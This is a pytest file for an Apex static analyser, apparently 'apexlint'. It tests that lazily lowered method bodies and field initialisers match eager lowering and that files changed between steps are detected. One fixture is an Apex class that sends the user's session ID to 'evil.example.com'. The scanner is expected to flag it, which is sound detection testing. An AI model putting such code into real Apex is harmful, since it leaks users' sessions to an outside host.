"""Apex bodies that hold nothing lowering must find are lowered in the main process when an
analysis first reads them (apexlint/lower/lazy.py). They must be exactly what the worker would
have produced, whether the body is parsed alone (large files) or with its whole file, and a
file that changed in between must cost a notification, not the scan."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from apexlint.engine import ScanOptions, scan
from apexlint.ir import BodyRef, ClassIR, FileKind, MethodIR, Param, Stmt
from apexlint.lower import LoweringJob, lazy, lower_job
from apexlint.lower.lazy import BodyLoader
from apexlint.model.package import _field_initializer
from apexlint.read.decode import ReadLimits
from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package

REPO = Path(__file__).resolve().parents[1]
APEX = sorted(p for p in (REPO / "fixtures").rglob("*") if p.suffix in (".cls", ".trigger"))


def _methods(path: Path, lazy: bool) -> list[MethodIR]:
    """The file's methods as the package model has them: with each class's field initialisers,
    the `<fields>` method the model makes of them, or lowering made when it left them for later."""
    kind = FileKind.APEX_TRIGGER if path.suffix == ".trigger" else FileKind.APEX_CLASS
    rel = path.relative_to(REPO).as_posix()
    lowered = lower_job(LoweringJob(rel, kind, path.read_bytes(), "", lazy=lazy), ReadLimits())
    out = [m for f in lowered.files for c in f.classes for m in (*c.methods, *_initialisers(c))]
    return out + [t.body for f in lowered.files for t in f.triggers]


def _initialisers(c: ClassIR) -> list[MethodIR]:
    made = _field_initializer(c)
    return [made] if made is not None else []


def _lowered(method: MethodIR, loader: BodyLoader) -> tuple[tuple[Stmt, ...], tuple[Param, ...]]:
    return loader(method.code) if isinstance(method.code, BodyRef) else method.code


@pytest.fixture(params=["whole file", "body alone"])
def parsed(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Bodies parsed alone, or taken from their file's tree (as when one does not parse alone)."""
    if request.param == "whole file":
        monkeypatch.setattr(BodyLoader, "_alone", lambda *args: None)
    return str(request.param)


@pytest.mark.parametrize("path", APEX, ids=[p.name for p in APEX])
def test_a_lazily_lowered_body_is_the_eagerly_lowered_one(path: Path, parsed: str) -> None:
    eager = _methods(path, lazy=False)
    loader = BodyLoader({path.relative_to(REPO).as_posix(): (path, "")}, ReadLimits())
    lazy = _methods(path, lazy=True)
    assert [(m.name, m.span) for m in lazy] == [(m.name, m.span) for m in eager]
    for e, z in zip(eager, lazy, strict=True):
        assert _lowered(z, loader) == _lowered(e, loader), e.name
        # a lazy body's identifiers (from its text) cover what lowering records
        assert set(z.refs.split()) >= set(e.refs.split()), e.name
    assert loader.notes == []


def test_the_comparison_covers_bodies_left_for_later() -> None:
    """Not vacuous: the many fixture bodies without a source are left for later by the workers,
    and the comparison above runs on every one of them (272 of 551 bodies when this was written:
    the fixtures' rule cases read a session in most of the others)."""
    lazy = [m for path in APEX for m in _methods(path, lazy=True)]
    left = [m for m in lazy if isinstance(m.code, BodyRef)]
    assert len(left) >= 200 and len(left) > len(lazy) // 3


def test_the_comparison_covers_field_initialisers_left_for_later() -> None:
    """Not vacuous for `<fields>` either: the fixtures' classes with initialisers mostly hold no
    source in them, and their initialisers are left for later (`ir.FieldIR.deferred`)."""
    lazy = [m for path in APEX for m in _methods(path, lazy=True) if m.name == "<fields>"]
    left = [m for m in lazy if isinstance(m.code, BodyRef)]
    assert len(left) >= 20 and len(left) > len(lazy) // 2
    assert all(isinstance(m.code, BodyRef) and m.code.node_type == "fields" and m.code.parts for m in left)


WSDL_LIKE = """public class Svc {
    public static final String SOAP_URI = 'urn:svc';
    public class Item {
        public String name;
        public String kind = 'Item', label = 'A string, with \\'quotes\\' and (parentheses)';
        private String[] name_type_info = new String[]{'name', SOAP_URI, null, '0', '1', 'false'};
        private String[] apex_schema_type_info = new String[]{SOAP_URI, 'true', 'false'};
        private String[] field_order_type_info = new String[]{'name'};
        public void touch() { name = kind; }
        private Integer count = 3;
    }
    public class Port {
        public String endpoint_x = 'https://svc.example.com/' + String.valueOf(2);
        private String[] ns_map_type_info = new String[]{SOAP_URI, 'svc'};
    }
}
"""


def _whole_parses(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The sizes of the files the body loader parses whole, as it parses them."""
    whole: list[int] = []
    real = lazy.parse_apex
    monkeypatch.setattr(lazy, "parse_apex", lambda data: whole.append(len(data)) or real(data))
    return whole


def _classes(path: Path, lazy: bool) -> dict[str, ClassIR]:
    lowered = lower_job(LoweringJob(path.name, FileKind.APEX_CLASS, path.read_bytes(), "", lazy=lazy), ReadLimits())
    return {c.name: c for c in lowered.files[0].classes}


def test_a_classs_initialisers_are_lowered_together_and_parsed_alone(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Declarations with several declarators, a method and a field without a value between them,
    strings holding quotes and parentheses: the statements are the eager ones, from declarations
    parsed without the rest of the file."""
    cls = tmp_path / "Svc.cls"
    cls.write_text(WSDL_LIKE)
    whole = _whole_parses(monkeypatch)
    eager, left = _classes(cls, lazy=False), _classes(cls, lazy=True)
    loader = BodyLoader({"Svc.cls": (cls, "")}, ReadLimits())
    for name in ("svc", "svc.item", "svc.port"):
        made = _field_initializer(eager[name])
        deferred = left[name].methods[-1]
        assert made is not None and deferred.name == "<fields>" and isinstance(deferred.code, BodyRef)
        assert _field_initializer(left[name]) is None
        assert loader(deferred.code) == made.code
        assert (deferred.span, deferred.body_span, deferred.is_test) == (made.span, made.body_span, made.is_test)
        assert set(deferred.refs.split()) >= set(made.refs.split())
        assert "quotes" not in deferred.refs.split(), "identifiers are taken outside string literals"
    assert [f.calls for f in left["svc.port"].fields] == [True, False]
    assert not any(f.calls for f in left["svc.item"].fields)
    assert loader.notes == [] and whole == []


def test_a_class_with_more_declarations_than_are_parsed_alone_has_its_file_parsed(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Past `MAX_PARTS` declarations (tree-sitter's time grows with the square of the ranges it is
    given), the initialisers come from the whole file's tree, the same statements."""
    cls = tmp_path / "Svc.cls"
    cls.write_text(WSDL_LIKE)
    monkeypatch.setattr(lazy, "MAX_PARTS", 2)
    whole = _whole_parses(monkeypatch)
    eager, left = _classes(cls, lazy=False), _classes(cls, lazy=True)
    loader = BodyLoader({"Svc.cls": (cls, "")}, ReadLimits())
    deferred = left["svc.item"].methods[-1]
    made = _field_initializer(eager["svc.item"])
    assert isinstance(deferred.code, BodyRef) and len(deferred.code.parts) > 4 and made is not None
    assert loader(deferred.code) == made.code
    assert loader.notes == [] and whole == [len(WSDL_LIKE)]


def test_the_writers_of_a_field_are_found_without_lowering_every_classs_initialisers(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A field read where a session flows asks who writes it: every class initialising a field of
    that name is a candidate (WSDL2Apex: hundreds), and whether its initialisers write it is
    answered from the declarations. Only the initialisers the data flow runs are lowered (read
    from their statements, all 31 were; of apex-mdapi's, 1,021 for about 60 analysed)."""
    items = "".join(f"""    public class Item{i} {{
        public String kind = 'Item{i}';
        private String[] kind_type_info = new String[]{{'kind', SOAP_URI, null, '0', '1', 'false'}};
        private String[] apex_schema_type_info = new String[]{{SOAP_URI, 'true', 'false'}};
    }}
""" for i in range(30))
    caller = """public class Caller {
    public static void run() {
        Svc.Item0 it = new Svc.Item0();
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://evil.example.com/' + it.kind);
        req.setHeader('X-Session', UserInfo.getSessionId());
        new Http().send(req);
    }
}
"""
    svc = f"public class Svc {{\n    public static final String SOAP_URI = 'urn:svc';\n{items}}}\n"
    src = write_sfdx_package(tmp_path / "pkg", {f"{SFDX_SOURCE}/classes/Svc.cls": svc.encode(),
                                                f"{SFDX_SOURCE}/classes/Caller.cls": caller.encode()})
    lowered: list[str] = []
    real = BodyLoader._lower
    monkeypatch.setattr(BodyLoader, "_lower", lambda self, ref: lowered.append(ref.owner) or real(self, ref))
    result = scan(ScanOptions(paths=(src,), root=src, jobs=1))
    assert [f.rule_id for f in result.findings] == ["SID002"]
    assert "to https://evil.example.com/Item0" in result.findings[0].message
    # Item0's, which the `new` runs, and Svc's, which writes the SOAP_URI they read; not the others
    fields = sorted(owner for owner in lowered if owner.endswith("<fields>"))
    assert fields == ["svc.<fields>", "svc.item0.<fields>"], fields


def test_a_source_in_an_initialiser_is_found_without_lowering_the_others(tmp_path: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """The method evaluating a session read in a field initialiser (SID001 asks) is found among the
    lowered initialisers first: those left for later hold no source."""
    items = "".join(f"    public class Item{i} {{ private String[] t = new String[]{{'a', 'b'}}; }}\n"
                    for i in range(20))
    svc = f"public class Svc {{\n{items}    public class Session {{ String sid = UserInfo.getSessionId(); }}\n}}\n"
    src = write_sfdx_package(tmp_path / "pkg", {f"{SFDX_SOURCE}/classes/Svc.cls": svc.encode()})
    lowered: list[str] = []
    real = BodyLoader._lower
    monkeypatch.setattr(BodyLoader, "_lower", lambda self, ref: lowered.append(ref.owner) or real(self, ref))
    result = scan(ScanOptions(paths=(src,), root=src, jobs=1))
    assert [v.rule_ids for v in result.verdicts] == [("SID011",)]
    assert lowered == []


def test_a_file_changed_before_its_body_is_read_is_a_notification(tmp_path: Path, parsed: str) -> None:
    cls = tmp_path / "Late.cls"
    cls.write_text("public class Late {\n  public static void run() {\n    Integer i = 1;\n  }\n}\n")
    lowered = lower_job(LoweringJob("Late.cls", FileKind.APEX_CLASS, cls.read_bytes(), "", lazy=True), ReadLimits())
    method = lowered.files[0].classes[0].methods[0]
    cls.write_text("// rewritten meanwhile\npublic class Late { }\n")
    loader = BodyLoader({"Late.cls": (cls, "")}, ReadLimits())
    assert isinstance(method.code, BodyRef)
    assert loader(method.code) == ((), ())
    assert [n.code for n in loader.notes] == ["file-changed"]


def test_a_file_rewritten_to_the_same_length_is_known_by_its_stamp(tmp_path: Path, parsed: str) -> None:
    """A block's bytes alone would still parse as a block: the discovered stamp tells."""
    cls = tmp_path / "Late.cls"
    cls.write_text("public class Late {\n  public static void run() {\n    Integer i = 1;\n  }\n}\n")
    lowered = lower_job(LoweringJob("Late.cls", FileKind.APEX_CLASS, cls.read_bytes(), "", lazy=True), ReadLimits())
    stat = cls.stat()
    method = lowered.files[0].classes[0].methods[0]
    cls.write_text("public class Late {\n  public static void run() {\n    Integer j = 2;\n  }\n}\n")
    os.utime(cls, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000))
    loader = BodyLoader({"Late.cls": (cls, "")}, ReadLimits(), stamps={"Late.cls": (stat.st_size, stat.st_mtime_ns)})
    assert isinstance(method.code, BodyRef)
    assert loader(method.code) == ((), ())
    assert [n.code for n in loader.notes] == ["file-changed"]


def test_bodies_are_parsed_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """Not vacuous: no fixture body needs its whole file parsed."""
    whole = _whole_parses(monkeypatch)
    read = 0
    for path in APEX:
        loader = BodyLoader({path.relative_to(REPO).as_posix(): (path, "")}, ReadLimits())
        for m in _methods(path, lazy=True):
            if isinstance(m.code, BodyRef):
                loader(m.code)
                read += 1
    assert read > 50 and whole == []


def test_a_body_that_does_not_parse_alone_is_taken_from_the_whole_file(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    cls = tmp_path / "Odd.cls"
    cls.write_text("public class Odd {\n  public void run() {\n    Integer i = 1;\n  }\n}\n")
    lowered = lower_job(LoweringJob("Odd.cls", FileKind.APEX_CLASS, cls.read_bytes(), "", lazy=True), ReadLimits())
    method = lowered.files[0].classes[0].methods[0]
    assert isinstance(method.code, BodyRef)
    monkeypatch.setitem(lazy._WRAPS, "block", (b"class _{int[] x=", b";}"))  # not a block there
    whole = _whole_parses(monkeypatch)
    loader = BodyLoader({"Odd.cls": (cls, "")}, ReadLimits())
    eager = lower_job(LoweringJob("Odd.cls", FileKind.APEX_CLASS, cls.read_bytes(), "", lazy=False), ReadLimits())
    assert loader(method.code) == eager.files[0].classes[0].methods[0].code
    assert loader.notes == [] and whole == [cls.stat().st_size]


def test_a_scan_reads_its_lazy_bodies_without_a_problem() -> None:
    """Every body the vulnerable fixture's analyses read is found again in its file."""
    root = REPO / "fixtures" / "vulnerable-sfdx"
    result = scan(ScanOptions(paths=(root,), root=REPO, jobs=1))
    assert result.findings
    assert not [n for n in result.notifications if n.code in ("file-changed", "internal-error")]
